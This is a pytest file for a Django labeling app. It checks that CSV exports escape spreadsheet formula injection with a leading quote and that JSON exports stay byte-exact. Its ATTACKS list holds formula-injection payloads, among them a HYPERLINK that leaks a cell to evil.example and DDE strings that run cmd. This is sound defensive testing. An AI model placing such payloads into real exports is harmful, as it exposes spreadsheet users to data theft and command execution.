"""CSV exports cannot attack spreadsheets: a text cell beginning with =, +, -, @, a tab or a
carriage return gets a leading ' (OWASP's rule), unless a machine consumer turns it off;
JSONL and JSON keep every value byte for byte."""

import csv
import io
import json

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from labeling.models import Item, Membership
from labeling.services.exports import csv_cell_neutralise, export_stream
from tests.factories import ItemFactory, MembershipFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "mid\rline", "'quoted already", " =leading space", "1=1", "", "a|=b"]


@pytest.fixture
def project():
    project = ProjectFactory(labels=["@pos", "neg"])
    for n, text in enumerate(ATTACKS + HARMLESS):
        ItemFactory(project=project, external_id=f"x{n:02d}", text=text)
    formula_id = ItemFactory(project=project, external_id="=1+2", text="id attack")
    Item.objects.filter(pk=formula_id.pk).update(
        status=Item.Status.DONE, final_labels=["@pos"], final_confidence=1.0
    )
    return project


def _csv_rows(body: bytes) -> dict[str, dict]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(body.decode()))}


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_gets_a_leading_quote(value):
    assert csv_cell_neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_unchanged(value):
    assert csv_cell_neutralise(value) == value


def test_the_csv_export_neutralises_text_ids_and_labels(project):
    rows = _csv_rows(b"".join(export_stream(project=project, fmt="csv")))

    texts = [rows[f"x{n:02d}"]["text"] for n in range(len(ATTACKS) + len(HARMLESS))]
    assert texts == ["'" + a for a in ATTACKS] + HARMLESS
    attacked_id = rows["'=1+2"]
    assert attacked_id["final_labels"] == "'@pos"
    assert attacked_id["text"] == "id attack"
    # The JSON columns begin with [ or { and are left alone.
    assert json.loads(attacked_id["metadata_json"]) == {}


def test_machine_consumers_can_turn_it_off(project):
    rows = _csv_rows(b"".join(export_stream(project=project, fmt="csv", csv_formula_escape=False)))

    texts = [rows[f"x{n:02d}"]["text"] for n in range(len(ATTACKS) + len(HARMLESS))]
    assert texts == ATTACKS + HARMLESS
    assert rows["=1+2"]["final_labels"] == "@pos"


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_jsonl_and_json_keep_every_value_byte_for_byte(project, fmt):
    escaped = b"".join(export_stream(project=project, fmt=fmt))
    raw = b"".join(export_stream(project=project, fmt=fmt, csv_formula_escape=False))

    assert escaped == raw
    if fmt == "jsonl":
        records = [json.loads(line) for line in escaped.decode().splitlines()]
    else:
        records = json.loads(escaped)
    by_id = {r["id"]: r for r in records}
    assert [by_id[f"x{n:02d}"]["text"] for n in range(len(ATTACKS))] == ATTACKS
    assert by_id["=1+2"]["final_labels"] == ["@pos"]
    # The exact bytes of one record's text: JSON's own escaping, nothing added.
    assert json.dumps(ATTACKS[0], ensure_ascii=False).encode() in escaped
    assert b"\"'=" not in escaped


def test_the_api_escapes_csv_by_default_and_not_with_the_option(project):
    boss = UserFactory()
    MembershipFactory(project=project, user=boss, role=Membership.Role.MANAGER)
    client = APIClient()
    client.force_authenticate(boss)
    url = reverse("api:export", kwargs={"pid": project.pk})

    def body(**params):
        response = client.get(url, params)
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    assert _csv_rows(body(format="csv"))["x00"]["text"] == "'" + ATTACKS[0]
    assert _csv_rows(body(format="csv", csv_formula_escape=1))["x00"]["text"] == "'" + ATTACKS[0]
    for off in ("0", "false"):
        assert _csv_rows(body(format="csv", csv_formula_escape=off))["x00"]["text"] == ATTACKS[0]
    jsonl = body(format="jsonl")
    assert jsonl == body(format="jsonl", csv_formula_escape=0)
    assert jsonl == b"".join(export_stream(project=project, fmt="jsonl"))
    assert client.get(url, {"format": "csv", "csv_formula_escape": "maybe"}).status_code == 400
